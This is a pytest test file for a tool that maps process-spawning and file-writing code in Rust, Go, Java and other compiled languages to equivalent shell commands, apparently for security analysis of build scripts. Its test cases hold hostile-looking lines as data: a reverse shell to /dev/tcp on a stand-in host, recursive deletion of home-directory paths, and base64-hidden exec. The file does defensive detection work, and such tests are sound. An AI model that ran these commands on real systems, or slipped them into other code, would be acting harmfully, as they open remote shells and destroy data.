"""What source in compiled languages is equivalent to."""

import pytest

from toolgate.analysis.formats.compiled import Source, commands_in, lines_of
from toolgate.analysis.formats.compiled_branches import functions_named, perhaps, reached
from toolgate.knowledge.texts.compiled_calls import NOT_KNOWN

RUST = """
fn main() {
    match std::env::args().nth(1).as_deref() {
        Some("dist") => dist(),
        Some("fmt" | "lint") => { Command::new("cargo").arg("fmt").status(); }
        _ => usage(),
    }
    if task == "wipe" { Command::new("rm").args(["-rf", "x"]).status(); }
}
fn dist() { Command::new("cargo").arg("publish").status(); }
fn usage() { println!("x"); }
fn unused() { Command::new("git").arg("push").status(); }
"""


@pytest.mark.parametrize(
    ("language", "code", "lines"),
    [
        ("rust", 'let h = dirs::home_dir().unwrap(); fs::write(h.join(".x"), "");', ["cat > \"$HOME\"/'.x'"]),
        ("rust", 'fs::remove_dir_all(format!("{}/a", env::var("HOME").unwrap()));', ["rm -rf \"$HOME\"'/a'"]),
        ("rust", 'let mut h = home_dir(); h.push("a"); fs::remove_dir_all(h);', []),
        ("go", 'os.WriteFile(home+"/.x", nil, 0o644)', []),
        ("go", 'exec.CommandContext(ctx, `sh`, "-c", script).Run()', [f"'sh' '-c' {NOT_KNOWN}"]),
        ("go", 'cmd := []string{"a", "b"}\nsh.RunV("ls", "-l")', ["'ls' '-l'"]),
        ("go", '// exec.Command("rm")\nconst a = `exec.Command("rm")`', []),
        ("java", 'new ProcessBuilder(List.of("git", "status")).start();', ["'git' 'status'"]),
        ("java", 'Runtime.getRuntime().exec("git status");', ["git status"]),
        ("kotlin", 'File(System.getProperty("user.home"), ".x").writeText("")', ["cat > \"$HOME\"/'.x'"]),
        ("scala", 'val a = "git status".!!', ["git status"]),
        ("scala", 'val a = "ls | sh".!!', ["ls '|' sh"]),
        ("zig", '_ = Child.run(.{ .allocator = a, .argv = &.{ "ls", "-l" } });', ["'ls' '-l'"]),
        ("haskell", 'main = callCommand "ls -l"', ["ls -l"]),
        ("csharp", 'Process.Start("git", "status -s");', ["'git' status -s"]),
        ("dart", "File('${Platform.environment['HOME']}/.x').writeAsString('');", ["cat > \"$HOME\"'/.x'"]),
        ("rust", 'let t = fs::read_to_string("a"); Command::new("b").arg(&t);', ["'b' \"$(cat 'a')\""]),
        ("rust", 'Command::new("b").stdin(File::open("a").unwrap());', ["cat 'a' | 'b'"]),
        (
            "go",
            'c, _ := net.Dial("tcp", "h.example:1")\nexec.Command("sh").Run()',
            ["sh -i >& /dev/tcp/h.example/1 0>&1"],
        ),
        ("go", 'c, _ := net.Dial("tcp", "localhost:1")\nexec.Command("sh").Run()', ["'sh'"]),
        ("java", 'System.load("a.so");', []),
        ("java", 'exec(new String(Base64.getDecoder().decode("bHMgLWw=")));', []),
        ("java", 'getRuntime().exec(new String(Base64.getDecoder().decode("bHMgLWw=")));', ["ls -l"]),
        ("dart", "http.post(u, body: Platform.environment['A']);", []),
    ],
)
def test_commands(language: str, code: str, lines: list[str]) -> None:
    assert commands_in(code, language) == lines


@pytest.mark.parametrize(
    ("words", "lines"),
    [
        (["dist"], ["'cargo' 'publish'"]),
        (["lint"], ["'cargo' 'fmt'"]),
        (["wipe"], ["'rm' '-rf' 'x'"]),
        (["other"], []),
        (None, ["'cargo' 'fmt'", "'rm' '-rf' 'x'", "'cargo' 'publish'"]),
    ],
)
def test_branches_that_arguments_choose(words: list[str] | None, lines: list[str]) -> None:
    source = Source(RUST, "rust")
    reached(source, ["main"], words)
    assert list(lines_of(source)) == lines


def test_targets_by_name() -> None:
    text = (
        'func Build() error { return Gen() }\nfunc Gen() error { return sh.Run("a") }\nfunc (CI) Ship() { sh.Run("b") }'
    )
    for target, lines in (("build", ["'a'"]), ("ci:ship", ["'b'"])):
        source = Source(text, "go")
        reached(source, functions_named(source, target), None)
        assert list(lines_of(source)) == lines


def test_branches_in_doubt() -> None:
    source = Source('fn main() { a("x"); if ship { Command::new("git").arg("push"); } }', "rust")
    assert [perhaps(source, at, []) for at in lines_of(source).values()] == [True]
